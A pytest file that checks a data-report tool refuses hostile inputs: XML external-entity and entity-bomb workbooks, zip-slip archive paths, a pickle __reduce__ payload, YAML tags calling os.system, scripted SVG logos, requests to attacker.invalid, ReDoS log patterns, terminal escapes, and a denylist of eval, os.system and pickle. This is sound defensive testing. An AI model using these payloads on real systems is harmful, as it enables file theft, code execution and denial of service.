"""Files that were made to do harm: each is refused in plain words, soon; nothing outside the raw folder is read or written."""

from __future__ import annotations

import contextlib
import json
import pickle
import time
import zipfile
from collections.abc import Callable
from datetime import date
from io import BytesIO
from pathlib import Path

import duckdb
import pandas as pd
import pytest
import yaml

from pilotproof.errors import DataError, ParamsError, PilotproofError, Problem
from pilotproof.pilot import load_pilot
from pilotproof.plan import load_plan
from pilotproof.sources.bundle import unpack_bundle
from pilotproof.sources.detect import detect
from pilotproof.sources.grid import read_grid
from pilotproof.sources.json_records import read_json_records
from pilotproof.workspace import Workspace
from tests.hostile.fuzzing import workbook
from tests.hostile.strings import PATHS, UNSEEN
from tests.pipeline.test_failures import receive_again
from tests.pipeline.test_report import run

LONGEST = 20  # seconds
SECRET = "the secret of another folder"
SHOWN = "data/raw/x/file"


# ---- workbooks ---------------------------------------------------------------------------------------------------------


def with_part(name: str, content: bytes, book: bytes | None = None) -> bytes:
    """The workbook with one part replaced or added."""
    with zipfile.ZipFile(BytesIO(book or workbook())) as whole:
        parts = {each: whole.read(each) for each in whole.namelist()} | {name: content}
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for each, body in parts.items():
            made.writestr(each, body)
    return stream.getvalue()


def sheet(cells: str, before: str = "") -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return f'{before}<worksheet xmlns="{space}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'.encode()


def entity(definition: str) -> bytes:
    return sheet('<c r="A1" t="inlineStr"><is><t>&x;</t></is></c>', f"<!DOCTYPE a [{definition}]>")


SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12)).replace("&l0;", "ha") + '<!ENTITY x "&l11;">'
BOOKS: dict[str, Callable[[], bytes]] = {
    "external entity": lambda: with_part(SHEET, entity('<!ENTITY x SYSTEM "file:///etc/passwd">')),
    "entity from the network": lambda: with_part(SHEET, entity('<!ENTITY x SYSTEM "http://attacker.invalid/x">')),
    "parameter entity": lambda: with_part(SHEET, entity('<!ENTITY % y SYSTEM "http://attacker.invalid/x"> %y;')),
    "entity bomb": lambda: with_part(SHEET, entity(LAUGHS)),
    "entity in the shared texts": lambda: with_part("xl/sharedStrings.xml", entity('<!ENTITY x SYSTEM "file:///etc/passwd">')),
    "entity in the list of sheets": lambda: with_part("xl/workbook.xml", entity('<!ENTITY x SYSTEM "file:///etc/passwd">')),
    "sheet that unpacks to gigabytes": lambda: with_part(SHEET, b"<worksheet>" + b" " * (300 * 2**20)),
    "millions of cells": lambda: with_part(SHEET, sheet('<c r="A1"/>' * 3_000_000)),
    "cell in the last corner": lambda: with_part(
        SHEET, sheet('<c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c>')
    ),
    "merged over everything": lambda: with_part(
        SHEET,
        sheet('<c r="A1"><v>1</v></c>').replace(
            b"</sheetData>", b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:XFD1048576"/>' * 1000 + b"</mergeCells>"
        ),
    ),
    "UTF-7": lambda: with_part(SHEET, sheet("", '<?xml version="1.0" encoding="utf-7"?>')),
    "parts without end": lambda: _many_parts(),
}
HARMLESS = {"merged over everything"}  # what it would fill is not there: read as one cell


def _many_parts() -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        for number in range(20_000):
            made.writestr(f"xl/{number}", b"")
    return stream.getvalue()


@pytest.mark.parametrize("kind", BOOKS)
def test_a_hostile_workbook_is_refused(kind, tmp_path):
    path = tmp_path / "book.xlsx"
    path.write_bytes(BOOKS[kind]())
    started = time.perf_counter()
    if kind in HARMLESS:
        assert read_grid(path, shown_as=SHOWN).rows == [["1"]]
    else:
        with pytest.raises(DataError) as refused:
            read_grid(path, shown_as=SHOWN)
        assert "root:" not in str(refused.value)
    assert time.perf_counter() - started < LONGEST


def test_macros_links_and_external_data_of_a_workbook_are_never_opened(tmp_path):
    plain = with_part(SHEET, sheet('<c r="A1"><v>1</v></c>'))
    book = with_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0macro", plain)
    book = with_part("xl/externalLinks/externalLink1.xml", entity('<!ENTITY x SYSTEM "file:///etc/passwd">'), book)
    book = with_part("xl/connections.xml", b'<connections><connection odcFile="http://attacker.invalid/x"/></connections>', book)
    (tmp_path / "book.xlsm").write_bytes(with_part("customXml/item1.xml", b"<!DOCTYPE x [", book))
    assert read_grid(tmp_path / "book.xlsm", shown_as=SHOWN).rows == [["1"]]


def test_a_formula_is_text_or_its_saved_value_and_is_not_computed(tmp_path):
    cell = '<c r="A1" t="str"><f>WEBSERVICE("http://attacker.invalid/")</f><v>saved</v></c>'
    (tmp_path / "book.xlsx").write_bytes(with_part(SHEET, sheet(cell)))
    assert read_grid(tmp_path / "book.xlsx", shown_as=SHOWN).rows == [["saved"]]


@pytest.mark.parametrize("name", ["../users.csv", "/tmp/users.csv", "a/../../orgs.csv", "..\\users.csv", "C:\\orgs.csv"])
def test_no_entry_of_a_bundle_lands_outside_its_folder(name, tmp_path):
    path = tmp_path / "in" / "bundle.zip"
    path.parent.mkdir()
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(name, "sourcedId\n1\n")
        archive.writestr("classes.csv", "sourcedId\n1\n")
    members, _ = unpack_bundle(path, tmp_path / "in" / "out", shown_as=SHOWN)
    assert {member.parent for member in members} == {tmp_path / "in" / "out"}
    assert sorted(path.name for path in tmp_path.iterdir()) == ["in"]


# ---- JSON, Parquet and what else is no export --------------------------------------------------------------------------

TEXTS: dict[str, Callable[[], str]] = {
    "deep lists": lambda: "[" * 200_000 + "]" * 200_000,
    "deep objects": lambda: '{"a":' * 100_000 + "1" + "}" * 100_000,
    "deep lines": lambda: "\n".join(['{"a":' + "[" * 5000 + "]" * 5000 + "}"] * 20),
    "millions of objects": lambda: "[" + "{}," * 2_000_000 + "{}]",
    "millions of values": lambda: "[" + "1," * 4_000_000 + "1]",
    "endless number": lambda: '{"a": ' + "9" * 1_000_000 + "}",
    "key twice": lambda: '[{"a": 1, "a": 2}]',
    "infinite": lambda: '[{"a": Infinity}, {"b": NaN}, {"c": -Infinity}]',
    "cut off": lambda: '[{"a": "' + "x" * 100_000,
}


@pytest.mark.parametrize("kind", TEXTS)
def test_hostile_json_is_refused(kind, tmp_path):
    path = tmp_path / "events.json"
    path.write_text(TEXTS[kind]())
    started = time.perf_counter()
    with pytest.raises(DataError):
        read_json_records(path, shown_as=SHOWN)
    assert time.perf_counter() - started < LONGEST


def test_parquet_and_pickle_from_outside_are_data_and_nothing_else(tmp_path):
    """A Parquet file is a log of text, whatever its bytes would do elsewhere; no other reader takes it."""
    trace = tmp_path / "trace"

    class Attack:
        def __reduce__(self):
            return (Path.touch, (trace,))

    pd.DataFrame({"a": [pickle.dumps(Attack())]}).to_parquet(tmp_path / "a.parquet")
    (tmp_path / "b.csv").write_bytes(pickle.dumps(Attack()))
    duckdb.connect(str(tmp_path / "c.duckdb")).close()
    assert detect(tmp_path / "a.parquet", shown_as=SHOWN).kind == "Parquet"
    with pytest.raises(DataError, match="Parquet"):
        read_grid(tmp_path / "a.parquet", shown_as=SHOWN)
    for name in ("b.csv", "c.duckdb"):
        try:
            detect(tmp_path / name, shown_as=SHOWN)
        except DataError:
            continue
    assert not trace.exists()


def test_no_module_loads_pickles_or_evaluates_texts():
    package = Path(__file__).parents[2] / "pilotproof"
    for path in package.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for word in ("pickle", "eval(", "exec(", "yaml.load(", "yaml.unsafe", "shell=True", "os.system", "read_pickle"):
            assert word not in text.replace("retrieval(", "").replace("interval(", ""), f"{path.name}: {word}"


# ---- params ------------------------------------------------------------------------------------------------------------

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
PARAMS = {
    "alias bomb": BOMB,
    "alias to itself": "a: &a [*a]\n",
    "merge of an alias": "base: &b {title: x}\nother:\n  <<: *b\n",
    "python object": "title: !!python/object/apply:os.system ['touch trace']\n",
    "python name": "title: !!python/name:os.system\n",
    "python module": "title: !!python/module:os\n",
    "python tuple": "title: !!python/tuple [1]\n",
    "python through %TAG": "%TAG ! tag:yaml.org,2002:python/\n---\ntitle: !object/apply:os.system ['touch trace']\n",
    "own tag": "title: !x y\n",
    "binary": "title: !!binary AAAA\n",
    "set": "title: !!set {a, b}\n",
    "list for a key": "? [a, b]\n: c\n",
    "deep lists": "title: " + "[" * 50_000 + "]" * 50_000 + "\n",
    "deep groups": "".join(f"{' ' * n}a:\n" for n in range(500)),
    "two documents": "title: a\n---\ntitle: b\n",
    "too large": "title: " + "x" * 2_000_000 + "\n",
    "NUL": "title: a\x00b\n",
    "endless number": "title: " + "9" * 100_000 + "\n",
    "date that is none": "data_received: 2026-02-30\n",
    "no mapping": "- a\n- b\n",
}


@pytest.mark.parametrize("kind", PARAMS)
def test_hostile_params_are_refused(kind, workspace, monkeypatch):
    monkeypatch.chdir(workspace.root)
    workspace.params("nearpod").write_text(PARAMS[kind])
    started = time.perf_counter()
    with pytest.raises(ParamsError, match=r"params/nearpod\.yaml"):
        load_pilot("nearpod", workspace)
    assert time.perf_counter() - started < LONGEST
    assert not (workspace.root / "trace").exists()


def changed(workspace: Workspace, *way: str | int, value: object) -> Workspace:
    """The workspace with one value of the params replaced."""
    path = workspace.params("nearpod")
    tree = inner = yaml.safe_load(path.read_text(encoding="utf-8"))
    for part in way[:-1]:
        inner = inner[part]
    inner[way[-1]] = value
    path.write_text(yaml.safe_dump(tree), encoding="utf-8")
    return workspace


@pytest.mark.parametrize("path", PATHS)
def test_no_path_of_the_params_leads_out_of_the_raw_folder(path, workspace):
    for way in (("sources", "outcomes", "file"), ("sources", "roster", "folder"), ("sources", "evidence")):
        value = [path] if way[-1] == "evidence" else path
        with pytest.raises(PilotproofError):
            _files_of(changed(workspace, *way, value=value))
    with pytest.raises(ParamsError):
        load_pilot("nearpod", changed(workspace, "page", "logo", value=path or "x"))


def _files_of(workspace: Workspace) -> None:
    from pilotproof.sources.passport import check_passports

    check_passports("nearpod", load_pilot("nearpod", workspace), workspace)


@pytest.mark.parametrize("form", ["%Y %Y", "%", "%Q", "%c", "%", "", "%Y-%m-%d %d", "%-d", "%\n", "\x00", "%(x)s", "{0}"])
def test_formats_of_dates_that_would_break_a_reader_are_refused_or_fit_nothing(form, workspace):
    try:
        load_pilot("nearpod", changed(workspace, "sources", "sessions", "date_formats", value=[form]))
    except ParamsError as error:
        assert "format of dates" in str(error) or "at least 1" in str(error)
    else:
        assert form == "{0}", "without a sign of a date it is a text like any other, which no cell fits"


@pytest.mark.parametrize(
    "value", ["<b>x</b>", "points | x", "a\nb", "x" * 41, "`x`", "$x$", "#eval(1)", "*points*", "", "{{< x >}}", "@fig-x"]
)
def test_a_unit_is_a_few_plain_words(value, workspace):
    for way in (("outcomes", 0, "unit"), ("licences", "currency")):
        with pytest.raises(ParamsError, match=way[-1]):
            load_pilot("nearpod", changed(workspace, *way, value=value))


@pytest.mark.parametrize(
    "value", [date(2026, 9, 14), {1: "a", "b": 2}, float("nan")], ids=["a date", "keys of two kinds", "no number"]
)
def test_a_plan_with_a_value_that_no_plan_holds_is_an_edited_one(value, workspace):
    path = workspace.plan("nearpod")
    tree = yaml.safe_load(path.read_text(encoding="utf-8"))
    tree["versions"][0]["plan"]["added"] = value
    path.write_text(yaml.safe_dump(tree), encoding="utf-8")
    with pytest.raises(ParamsError, match="does not fit its hash"):
        load_plan("nearpod", workspace)


# ---- links and logos ---------------------------------------------------------------------------------------------------


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "outside.csv"
    path.write_text(f"Student ID,Class,Test date,Pretest,Posttest\n{SECRET},x,y,1,2\n")
    return path


def test_a_link_out_of_the_raw_folder_is_refused(project, secret):
    path = project / "data/raw/nearpod/outcomes.csv"
    path.unlink()
    path.symlink_to(secret)
    receive_again(project, "outcomes.csv", rows=1)
    done = run(project, "report", "nearpod")
    assert done.returncode == 1 and "a link that leaves the pilot's raw folder" in done.stderr and SECRET not in done.stderr


def test_a_folder_that_links_elsewhere_is_refused(project, tmp_path):
    roster = project / "data/raw/nearpod/roster"
    roster.rename(tmp_path / "elsewhere")
    roster.symlink_to(tmp_path / "elsewhere")
    done = run(project, "report", "nearpod")
    assert done.returncode == 1 and "a link that leaves the pilot's raw folder" in done.stderr


@pytest.mark.parametrize("name", ["source.yaml", "corrections.yaml"])
def test_passports_and_corrections_that_link_elsewhere_show_nothing_of_it(project, secret, name):
    path = project / "data/raw/nearpod" / name
    path.unlink(missing_ok=True)
    path.symlink_to(secret)
    done = run(project, "check", "nearpod")
    assert done.returncode == 1 and SECRET not in done.stderr + done.stdout


LOGOS = {
    "script": "<script>alert(1)</script>",
    "handler": '<path onload="alert(1)" d="M0 0"/>',
    "page within": '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>',
    "picture from the network": '<image href="http://attacker.invalid/x.png"/>',
    "picture of another file": '<image xmlns:x="http://www.w3.org/1999/xlink" x:href="../../params/nearpod.yaml"/>',
    "picture by a path": '<image href="/etc/passwd"/>',
    "part of another drawing": '<use href="other.svg#a"/>',
    "style from elsewhere": "<style>@import 'http://attacker.invalid/x.css';</style>",
    "filling from elsewhere": '<rect style="fill:url(http://attacker.invalid/x)"/>',
    "link": '<a href="#x"><path d="M0 0"/></a>',
    "javascript": '<use href="javascript:alert(1)"/>',
    "drawing within": '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
    "animation": '<set attributeName="href" to="http://attacker.invalid/"/>',
}


def with_logo(workspace: Workspace, content: str) -> Workspace:
    (workspace.root / "params/logo.svg").write_text(content)
    path = workspace.params("nearpod")
    tree = yaml.safe_load(path.read_text(encoding="utf-8"))
    tree["page"] |= {"logo": "logo.svg", "logo_alt": "x"}
    path.write_text(yaml.safe_dump(tree), encoding="utf-8")
    return workspace


@pytest.mark.parametrize("kind", LOGOS)
def test_a_logo_that_does_more_than_be_drawn_is_refused(kind, workspace):
    with pytest.raises(ParamsError, match="with a script, or with a part that lies elsewhere"):
        load_pilot("nearpod", with_logo(workspace, f'<svg xmlns="http://www.w3.org/2000/svg">{LOGOS[kind]}</svg>'))


def test_a_logo_with_entities_is_refused(workspace):
    with pytest.raises(ParamsError, match="no SVG picture"):
        load_pilot(
            "nearpod",
            with_logo(
                workspace,
                '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
            ),
        )


def test_an_ordinary_logo_is_taken(workspace):
    drawing = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><style>.a{fill:url(#g)}</style><defs>'
        '<linearGradient id="g"/></defs><use x:href="#g"/><path class="a" style="fill:url(#g)" d="M0 0"/><title>M</title></svg>'
    )
    assert load_pilot("nearpod", with_logo(workspace, drawing)).page.logo == "logo.svg"


# ---- patterns of logs --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("{time}" + " {any}" * 40 + " {message}!", "a " * 20_000),
        ("{time}a{any}a{any}a{any}a{any}a{any}a{any}a{message}b", "a" * 50_000),
        ("{time} (a+)+$ {message}", "2026 (a+)+$ it is no regular expression"),
        ("{time} .*.*.*=.* {message}", "2026 " + "." * 50_000),
    ],
    ids=["many gaps", "many letters", "regular expression", "dots"],
)
def test_no_pattern_of_a_log_makes_the_reading_hang(pattern, line):
    from pilotproof.pilot import ErrorLogSource
    from pilotproof.sources.error_log import log_of_lines

    started = time.perf_counter()
    with contextlib.suppress(DataError):
        log_of_lines("\n".join([line] * 20), ErrorLogSource(file="x", format="lines", pattern=pattern), file=SHOWN)
    assert time.perf_counter() - started < LONGEST


def test_the_messages_of_a_check_are_shown_without_what_a_terminal_would_run(project):
    path = project / "data/raw/nearpod/outcomes.csv"
    lines = path.read_text().splitlines()
    lines[1] = "\x1b[2J\x1b]0;owned\x07S-1,MATH6-01,2026-10-13,\x1b[31mx,1"
    path.write_text("\n".join(lines) + "\n")
    receive_again(project, "outcomes.csv")
    done = run(project, "check", "nearpod")
    assert done.returncode == 1 and "\x1b" not in done.stderr + done.stdout and "\x07" not in done.stderr + done.stdout


def test_evidence_of_another_pilot_is_read_as_data_only(tmp_path):
    from pilotproof.findings.evidence_file import read_evidence

    for number, content in enumerate(
        ("[" * 100_000, json.dumps({"evidence_version": 2, "__class__": "os.system"}), "null", "1e999")
    ):
        path = tmp_path / f"{number}.json"
        path.write_text(content)
        with pytest.raises(DataError):
            read_evidence(path, shown_as=SHOWN)


@pytest.mark.parametrize("hostile", UNSEEN, ids=lambda hostile: hostile.kind)
def test_a_message_holds_nothing_that_a_terminal_acts_on(hostile):
    problem = Problem(file=hostile.text, column=hostile.text, found=hostile.text, expected=hostile.text, action=hostile.text)
    for error in (DataError([problem]), PilotproofError(hostile.text)):
        assert all(letter.isprintable() or letter in "\n\t\u00a0" for letter in str(error))
        str(error).encode("utf-8")
